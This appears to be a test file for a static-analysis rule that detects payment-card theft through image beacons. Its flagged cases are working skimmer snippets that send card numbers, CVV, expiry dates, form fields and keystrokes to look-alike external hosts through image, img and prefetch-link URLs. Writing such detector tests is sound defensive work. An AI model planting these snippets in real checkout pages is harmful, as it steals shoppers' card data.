// Tests for card-data-via-image-beacon: card, form or key data in the URL of an image, CSS
// background, injected element or link to an untrusted host. Findings are reported on the
// assignment. Sections are separate scripts.

// The classic beacon.
var gate = 'https://cdn-analytics-metrics.top/p.gif';
var data = document.querySelector('#cc_number').value + ';' + document.querySelector('#cc_cvv').value;
// ruleid: card-data-via-image-beacon
new Image().src = gate + '?d=' + btoa(data);

// ---
// A created <img> element and setAttribute.
var img = document.createElement('img');
var fields = jQuery('#co-payment-form').serialize();
// ruleid: card-data-via-image-beacon
img.setAttribute('src', 'https://secure-paygate.xyz/1x1.png?' + encodeURIComponent(fields));
document.body.appendChild(img);

// ---
// A prefetch <link> whose href carries the expiry date.
var hint = document.createElement('link');
hint.rel = 'prefetch';
var exp = document.querySelector('[autocomplete="cc-exp"]').value;
// ruleid: card-data-via-image-beacon
hint.href = 'https://metrics-cdn-static.top/bg.png?e=' + exp;
document.head.appendChild(hint);

// ---
// A look-alike host, keystrokes in the query.
document.addEventListener('keyup', function (ev) {
  var pix = new Image();
  // ruleid: card-data-via-image-beacon
  pix.src = 'https://fontsawesome.gq/i.gif?k=' + ev.key;
});

// ---
// Card data to the site itself (relative URL): a first-party pixel.
var num = document.getElementById('card-number').value;
// ok: card-data-via-image-beacon
new Image().src = '/checkout/track.gif?brand=' + (num.charAt(0) === '4' ? 'visa' : 'other');

// ---
// An affiliate conversion pixel without card data.
var orderId = window.checkoutData.orderId;
// ok: card-data-via-image-beacon
new Image().src = 'https://track.affiliate-network.example.com/conv?oid=' + orderId + '&amt=' + window.checkoutData.total;

// ---
// A product image swap.
var thumb = document.querySelector('.product-thumb');
// ok: card-data-via-image-beacon
thumb.src = 'https://cdn.shop-images.example.com/p/' + thumb.dataset.sku + '.jpg';
